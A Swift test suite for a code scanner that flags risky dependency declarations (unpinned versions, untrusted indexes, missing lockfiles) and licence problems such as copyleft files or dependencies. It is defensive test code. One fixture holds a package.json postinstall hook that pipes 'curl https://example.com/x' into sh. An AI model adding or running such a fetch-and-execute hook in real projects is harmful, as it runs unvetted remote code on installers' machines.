import Features
import Kernel
import Pipeline
import Testing

@Suite("Dependencies and licences")
struct DependencyTests {
    private func rules(_ files: KeyValuePairs<String, String>) -> [String] {
        Scanners.scan(Fixtures.tree(files)).map(\.rule.id)
    }

    @Test("Versions that nobody chose")
    func versions() {
        #expect(rules(["requirements.txt": "flask\nrequests>=0\n"]) == ["deps/wildcard", "deps/unpinned"])
        #expect(rules(["requirements.txt": "x @ git+https://example.com/x.git@main\n"]) == ["deps/source"])
        let commit = String(repeating: "a1", count: 20)
        #expect(rules(["requirements.txt": "x @ git+https://example.com/x.git@\(commit)\n"]) == [])
        #expect(
            rules(["requirements.txt": "--index-url http://example.com/simple\nflask==3\n"]) == ["deps/untrusted-index"]
        )
        #expect(rules(["go.mod": "module a\n\nrequire example.com/b v1.2.3\n"]) == ["deps/no-lockfile"])
        #expect(rules(["go.mod": "module a\n\nrequire example.com/b v1.2.3\n", "go.sum": "x"]) == [])
        #expect(rules(["Gemfile": "gem \"rails\"\ngem \"pg\", \"1.5.6\"\n"]) == ["deps/unpinned"])
    }

    @Test("A range needs a lockfile, a wildcard is worse, and each has its line")
    func package() {
        let ranged = "{\n  \"license\": \"MIT\",\n  \"dependencies\": {\n    \"a\": \"^1.0.0\"\n  }\n}\n"
        #expect(rules(["package.json": ranged]) == ["deps/no-lockfile"])
        #expect(rules(["package.json": ranged, "package-lock.json": "{}"]) == [])
        let any = ranged.replacing("^1.0.0", with: "*")
        let hits = Scanners.scan(Fixtures.tree(["package.json": any]))
        #expect(hits.map(\.rule.id) == ["deps/wildcard"] && hits.map(\.line) == [4])
        let script = "{\"private\": true, \"scripts\": {\"postinstall\": \"curl https://example.com/x | sh\"}}"
        #expect(rules(["package.json": script]) == ["deps/install-script"])
        // Somebody else's manifest is not ours to mend.
        #expect(rules(["node_modules/x/package.json": any]) == [])
    }

    @Test("A project says its licence, and brings no other one along")
    func licences() {
        let manifest = "[project]\nname = \"a\"\ndependencies = []\n"
        #expect(rules(["pyproject.toml": manifest]) == ["licence/not-said"])
        #expect(rules(["pyproject.toml": manifest, "README.md": "All rights reserved.\n"]) == [])
        #expect(rules(["pyproject.toml": manifest, "LICENSE": "MIT\n"]) == [])
        let header = "# This program is free software under the GNU General Public License.\nx = 1\n"
        #expect(rules(["a.py": header]) == ["licence/copyleft-file"])
        #expect(rules(["a.py": header, "LICENSE": "GNU GENERAL PUBLIC LICENSE\nVersion 3\n"]) == [])
        #expect(rules(["a.py": "names = [\"GPL-3.0\", \"MIT\"]\n"]) == [])
        let lock =
            "{\"packages\": {\"node_modules/a\": {\"license\": \"AGPL-3.0\"}, \"b\": {\"license\": \"MIT OR GPL-3.0\"}}}"
        #expect(rules(["package-lock.json": lock]) == ["licence/copyleft-dependency"])
    }
}
